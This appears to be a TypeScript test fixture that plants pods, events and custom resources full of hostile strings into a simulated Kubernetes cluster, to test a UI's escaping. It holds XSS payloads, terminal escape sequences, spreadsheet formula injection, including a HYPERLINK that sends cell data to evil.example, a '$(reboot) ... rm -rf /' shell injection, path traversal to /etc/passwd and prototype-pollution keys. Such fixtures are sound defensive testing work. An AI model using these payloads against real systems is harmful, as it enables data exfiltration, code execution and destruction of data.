import type { KubeObject } from '../../src/core/kube/object.ts';
import type { SimCluster } from '../../src/core/sim/sim-cluster.ts';

/** What nobody may be made to read raw: terminal commands, what turns the writing direction, and what cannot be seen. */
export const unseen = /[^\P{Cc}\n]|[\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

/** Texts as an attacker would have them in names, labels and messages. */
export const attacks = {
  escape: '\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\',
  c1: '\u009b31m\u0090q\u009c',
  newline: 'line1\r\nline2\tx\u0000y',
  script: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  attribute: `" onmouseover="alert(1)' onfocus='alert(1) x=\``,
  close: '</td></table></title></style><svg onload=alert(1)>',
  scheme: 'javascript:alert(1)',
  formula: '=HYPERLINK("http://evil.example?x="&A1,"click")',
  plus: "+SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  comma: 'a,"b"\t=1+1',
  bidi: 'safe\u202egpj.exe\u2066x\u2069\u061cz',
  hidden: 'pay\u200bments\u2060\ufeff\u00ad\u{e0041}',
  proto: '__proto__',
  builtin: 'constructor',
  surrogate: 'half \ud800 pair',
  wide: '\u{1f9e8}漢字e\u0301\u0645\u0631\u062d\u0628\u0627',
  yaml: '- &a !!js/function "x": {y: *a}\n---\n...',
  dollar: '$(reboot) `id` ; rm -rf / #',
  percent: '%00%2f..%2f../../etc/passwd',
  long: 'x'.repeat(5000),
} as const;

function parsed(text: string): KubeObject {
  return JSON.parse(text) as KubeObject;
}

/** A pod with the text wherever a pod has one; built from JSON, so that `__proto__` is a key like any other. */
export function hostilePod(name: string, text: string): KubeObject {
  const labels = `{"__proto__":"polluted","constructor":"polluted","app":${JSON.stringify(text)},"hostile":"yes"}`;
  const annotations = `{"__proto__":"polluted","note":${JSON.stringify(text)},${JSON.stringify(text)}:"key"}`;
  return parsed(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":${JSON.stringify(name)},"namespace":"hostile","labels":${labels},"annotations":${annotations}},
    "spec":{"nodeName":${JSON.stringify(text)},"containers":[{"name":"c","image":${JSON.stringify(text)}}],"__proto__":{"polluted":true}},
    "status":{"phase":${JSON.stringify(text)},"reason":${JSON.stringify(text)},"podIP":${JSON.stringify(text)},"containerStatuses":[{"ready":true,"restartCount":1e308,"state":{"waiting":{"reason":${JSON.stringify(text)}}}}]}}`);
}

/** An event with the text wherever an event has one. */
export function hostileEvent(name: string, text: string): KubeObject {
  return parsed(`{"apiVersion":"v1","kind":"Event","metadata":{"name":${JSON.stringify(name)},"namespace":"hostile"},"type":${JSON.stringify(text)},"reason":${JSON.stringify(text)},
    "message":${JSON.stringify(text)},"involvedObject":{"kind":${JSON.stringify(text)},"name":${JSON.stringify(text)},"namespace":"hostile"},"source":{"component":${JSON.stringify(text)}},
    "firstTimestamp":"nonsense","lastTimestamp":"2026-01-01T00:00:00Z","count":-1}`);
}

/** Creates a pod and an event for each text, once under a plain name and once named as the text; answers them as the API server has them. */
export function plantHostileObjects(cluster: SimCluster): readonly KubeObject[] {
  const planted: KubeObject[] = [];
  for (const [what, text] of Object.entries(attacks)) {
    for (const name of what === 'long' ? [what] : [what, text]) {
      const pod = cluster.objects.create('pods', hostilePod(name, text), Date.now());
      const event = cluster.objects.create('events', hostileEvent(name, text), Date.now());
      for (const entry of [pod, event]) if (entry !== 'exists') planted.push(entry.object);
    }
  }
  return planted;
}

/** Names of custom resources are bounded by nothing but etcd; this one is 10,000 characters long. */
export const endlessName = 'y'.repeat(10_000);

/** Creates a resource `traps.evil.example` with hostile printer columns, and objects of it that are too long, too deep and too large. */
export function plantHostileResources(cluster: SimCluster): void {
  const crds = 'customresourcedefinitions.apiextensions.k8s.io';
  const columns = Object.entries(attacks)
    .slice(0, 12)
    .map(([what, text]) => ({ name: text, type: 'string', jsonPath: `.spec.${what}`, description: text }));
  const definition = {
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: 'traps.evil.example' },
    spec: {
      group: 'evil.example',
      scope: 'Namespaced',
      names: { plural: 'traps', kind: 'Trap' },
      versions: [{ name: 'v1', served: true, storage: true, additionalPrinterColumns: columns }],
    },
  };
  cluster.objects.create(crds, definition as unknown as KubeObject, Date.now());
  for (const [name, parts] of Object.entries(traps())) {
    const object = { apiVersion: 'evil.example/v1', kind: 'Trap', ...parts, metadata: { name, namespace: 'hostile', ...parts.metadata } };
    cluster.objects.create('traps.evil.example', object as unknown as KubeObject, Date.now());
  }
}

function traps(): Readonly<Record<string, { readonly metadata?: object; readonly spec: object; readonly status?: object }>> {
  let deep: unknown = 'bottom';
  for (let i = 0; i < 400; i++) deep = i % 2 === 0 ? { [`level-${i}`]: deep } : [deep];
  const annotations = Object.fromEntries(
    Array.from({ length: 200 }, (_, i) => [`evil.example/${i}`, `${attacks.script}${'z'.repeat(1000)}`]),
  );
  const conditions = Object.values(attacks)
    .slice(0, 12)
    .map((text) => ({ type: text, status: 'False', reason: text, message: text, lastTransitionTime: 'nonsense' }));
  return {
    [endlessName]: { spec: attacks },
    deep: { spec: { deep } },
    annotated: { metadata: { annotations }, spec: attacks },
    conditioned: { spec: attacks, status: { conditions } },
  };
}
